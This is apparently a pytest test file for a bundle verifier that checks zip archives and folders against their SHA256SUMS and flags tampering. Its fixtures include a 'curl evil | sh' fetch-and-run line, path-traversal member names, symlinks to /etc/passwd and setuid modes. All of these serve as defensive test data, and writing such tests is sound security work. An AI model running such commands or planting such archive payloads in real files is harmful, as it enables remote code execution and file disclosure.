"""Does a bundle know when it is not as it was written? And is nothing read or written outside it?"""

from __future__ import annotations

import io
import os
import stat
import subprocess
import tempfile
import zipfile
from pathlib import Path

import pytest
from commands import typed
from hypothesis import given, settings
from hypothesis import strategies as st

from gradcheck_cli.errors import UsageError
from gradcheck_cli.reproduce.archive import SUMS, packed, sums, verify

FILES = {"a.txt": b"alpha\n", "report.json": b"{}" * 50}
WHOLE = packed(FILES)


def written(folder: Path, data: bytes) -> Path:
    path = folder / "bundle.zip"
    path.write_bytes(data)
    return path


def zipped(members: dict[str, bytes], links: tuple[str, ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            member = zipfile.ZipInfo(name)
            member.external_attr = (stat.S_IFLNK if name in links else stat.S_IFREG) << 16
            archive.writestr(member, data)
    return buffer.getvalue()


def lzma_packed(members: dict[str, bytes]) -> bytes:
    """A zip whose members are packed by LZMA, with properties that no stream has."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue().replace(b"\x5d\x00\x00", b"\xff\xff\xff")


def kinds(path: Path) -> dict[str, str]:
    return {one.name: one.kind for one in verify(path).differences}


def test_what_was_packed_is_all_right_and_always_the_same_bytes(tmp_path: Path) -> None:
    done = typed("verify", str(written(tmp_path, WHOLE)))
    assert (done.code, done.err) == (0, "")
    assert "2 of 2 files listed in SHA256SUMS are as they were written" in done.out
    assert packed(dict(reversed(FILES.items()))) == WHOLE


def test_the_hashes_are_those_of_sha256sum(tmp_path: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(WHOLE)) as archive:
        archive.extractall(tmp_path)
    done = subprocess.run(["sha256sum", "-c", SUMS], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "a.txt: OK\nreport.json: OK\n")


def test_an_unpacked_bundle_is_compared_as_a_folder(tmp_path: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(WHOLE)) as archive:
        archive.extractall(tmp_path)
    assert typed("verify", str(tmp_path)).code == 0
    (tmp_path / "a.txt").write_text("beta\n")
    (tmp_path / "report.json").unlink()
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "b.txt").write_text("")
    (tmp_path / "link").symlink_to("/etc/passwd")
    assert kinds(tmp_path) == {"a.txt": "altered", "report.json": "missing", "more/b.txt": "added", "link": "added"}


def test_each_difference_has_a_line_of_its_own(tmp_path: Path) -> None:
    members = {"a.txt": b"beta\n", "b.txt": b"", SUMS: sums(FILES).encode()}
    done = typed("verify", str(written(tmp_path, zipped(members))))
    assert done.code == 1
    assert [line.split(":")[:2] for line in done.out.splitlines()[:3]] == [
        ["altered", " a.txt"],
        ["added", " b.txt"],
        ["missing", " report.json"],
    ]
    assert "0 of 2 files are" in done.out.splitlines()[3]


@pytest.mark.parametrize("name", ("../out.txt", "/etc/passwd", "a/../../b", "C:\\b", "..\\b"))
def test_a_name_that_leads_out_is_told_and_neither_read_nor_written(tmp_path: Path, name: str) -> None:
    inside = tmp_path / "in"
    inside.mkdir()
    members = {**FILES, name: b"evil"}
    path = written(inside, zipped({**members, SUMS: sums(members).encode()}))
    assert kinds(path) == {name: "altered"}
    assert "leads out of it" in typed("verify", str(path)).out
    assert [file.name for file in tmp_path.rglob("*") if file.is_file()] == ["bundle.zip"]


def test_a_hash_of_a_file_outside_does_not_make_it_be_read(tmp_path: Path) -> None:
    (tmp_path / "secret").write_bytes(b"x")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / SUMS).write_text(sums({"../secret": b"x"}))
    assert kinds(folder) == {"../secret": "missing"}


def test_a_link_is_not_followed(tmp_path: Path) -> None:
    members = {**FILES, "link": b"/etc/passwd"}
    path = written(tmp_path, zipped({**members, SUMS: sums(members).encode()}, links=("link",)))
    assert kinds(path) == {"link": "altered"}


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_name_that_stands_twice_is_told(tmp_path: Path) -> None:
    path = written(tmp_path, WHOLE)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("a.txt", b"beta")
    assert kinds(path) == {"a.txt": "added"}


@pytest.mark.parametrize("name", ("run_me.sh/", "../../evil/", ""))
def test_a_folder_and_a_member_without_a_name_are_told_as_added(tmp_path: Path, name: str) -> None:
    path = written(tmp_path, WHOLE)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), b"curl evil | sh")
    assert kinds(path) == {name: "added"}


def commented(data: bytes, comment: bytes) -> bytes:
    """The zip with a comment of its own."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.comment = comment
    return buffer.getvalue()


def packed_otherwise(**fields: object) -> bytes:
    """A zip of the same content, with something in each member's header that gradcheck never writes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(WHOLE)) as whole, zipfile.ZipFile(buffer, "w") as archive:
        for member in whole.infolist():
            for field, value in fields.items():
                setattr(member, field, value)
            archive.writestr(member, whole.read(member.filename))
    return buffer.getvalue()


ADDED: dict[str, bytes] = {
    "bytes before it": b"#!/bin/sh\ncurl evil | sh\n" + WHOLE,
    "bytes after it": WHOLE + b"payload",
    "a comment": commented(WHOLE, b"payload"),
    "an extra field": packed_otherwise(extra=b"\xfe\xca\x04\x00evil"),
    "a comment of a member": packed_otherwise(comment=b"payload"),
    "another mode": packed_otherwise(external_attr=(stat.S_IFREG | 0o4777) << 16),
}


@pytest.mark.parametrize("data", ADDED.values(), ids=ADDED)
def test_what_stands_around_the_files_is_no_part_of_the_bundle(tmp_path: Path, data: bytes) -> None:
    assert kinds(written(tmp_path, data)) == {"bundle.zip": "altered"}


def test_the_same_content_deflated_by_another_library_is_the_same_bundle(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(WHOLE)) as whole, zipfile.ZipFile(buffer, "w", compresslevel=0) as archive:
        for member in whole.infolist():
            archive.writestr(member, whole.read(member.filename), compresslevel=0)
    assert buffer.getvalue() != WHOLE
    assert kinds(written(tmp_path, buffer.getvalue())) == {}


def test_a_pipe_is_no_bundle_and_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "bundle.zip")
    done = typed("verify", str(tmp_path / "bundle.zip"))
    assert (done.code, done.out) == (2, "")
    assert "is neither a file nor a folder" in done.err


def test_a_member_in_another_packing_is_told_and_not_read(tmp_path: Path) -> None:
    members = {**FILES, SUMS: sums(FILES).encode()}
    del members["a.txt"]
    buffer = io.BytesIO(zipped(members))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_LZMA) as archive:
        archive.writestr("a.txt", FILES["a.txt"])
    assert kinds(written(tmp_path, buffer.getvalue())) == {"a.txt": "altered"}


NO_BUNDLE: dict[str, tuple[bytes, str]] = {
    "no zip": (b"hello", "cannot be read as a zip"),
    "an empty file": (b"", "cannot be read as a zip"),
    "half a zip": (WHOLE[: len(WHOLE) // 2], "cannot be read as a zip"),
    "another zip": (zipped({"a.txt": b""}), f"holds no {SUMS}"),
    "hashes that are none": (zipped({SUMS: b"abc  a.txt\n"}), f"{SUMS}, line 1: expected a hash of 64 digits"),
    "hashes of one name twice": (
        zipped({SUMS: b"0" * 64 + b"  a.txt\n" + b"1" * 64 + b"  a.txt\n"}),
        f"{SUMS}, line 2: expected each name once, found 'a.txt' again",
    ),
    "hashes in another packing": (lzma_packed({SUMS: b"x" * 90}), "another packing"),
    "hashes of nothing": (zipped({SUMS: b""}), "names no file"),
    "hashes that are no text": (zipped({SUMS: b"\xff\xfe"}), "cannot be read"),
    "hashes that are a link": (zipped({SUMS: b"/etc/passwd"}, links=(SUMS,)), "a link or a device"),
}


@pytest.mark.parametrize(("data", "said"), NO_BUNDLE.values(), ids=NO_BUNDLE)
def test_what_is_no_bundle_is_told_in_one_message(tmp_path: Path, data: bytes, said: str) -> None:
    done = typed("verify", str(written(tmp_path, data)))
    assert (done.code, done.out) == (2, "")
    assert said in done.err
    assert done.err.count("\n") == 1


def test_what_is_not_there_and_a_folder_without_hashes_are_no_bundles(tmp_path: Path) -> None:
    assert typed("verify", str(tmp_path / "none")).code == 2
    assert typed("verify", str(tmp_path)).code == 2
    written(tmp_path, WHOLE)
    assert f"try {tmp_path / 'bundle.zip'}" in typed("verify", str(tmp_path)).err


@settings(deadline=None, max_examples=400)
@given(st.integers(0, len(WHOLE) - 1), st.integers(1, 255))
def test_one_altered_byte_never_ends_in_a_traceback_and_never_changes_a_file_unseen(at: int, by: int) -> None:
    data = bytearray(WHOLE)
    data[at] ^= by
    path = Path(tempfile.gettempdir(), f"altered-{os.getpid()}.zip")
    path.write_bytes(data)
    try:
        found = verify(path)
        if not found.differences:
            with zipfile.ZipFile(path) as archive:
                assert {name: archive.read(name) for name in FILES} == FILES
    except UsageError:
        pass  # then it is no zip any more, which a test above looks at
    finally:
        path.unlink()


def test_many_files_of_a_size_that_one_may_have_are_not_all_read(tmp_path: Path) -> None:
    members = {f"{number}.txt": b"x" for number in range(4)}
    data = bytearray(zipped({SUMS: sums(members).encode(), **members}))
    for number in range(4):  # what the directory says of each: 400 MiB
        entry = data.rindex(f"{number}.txt".encode()) - 46
        data[entry + 24 : entry + 28] = (400 << 20).to_bytes(4, "little")
    told = {one.name: one.why for one in verify(written(tmp_path, bytes(data))).differences}
    assert "in all files, found more; it was not read" in told["3.txt"]
    assert "0.txt" not in told  # the first was read


def test_a_stream_that_goes_on_behind_what_its_file_holds_is_noticed(tmp_path: Path) -> None:
    longer = packed({"a.txt": b"x" * 5000})
    data = bytearray(longer)
    local, entry = data.index(b"PK\3\4"), data.rindex(b"a.txt") - 46
    for at in (local + 22, entry + 24):
        data[at : at + 4] = (10).to_bytes(4, "little")
    found = verify(written(tmp_path, bytes(data)))
    assert [one.kind for one in found.differences] == ["altered"]
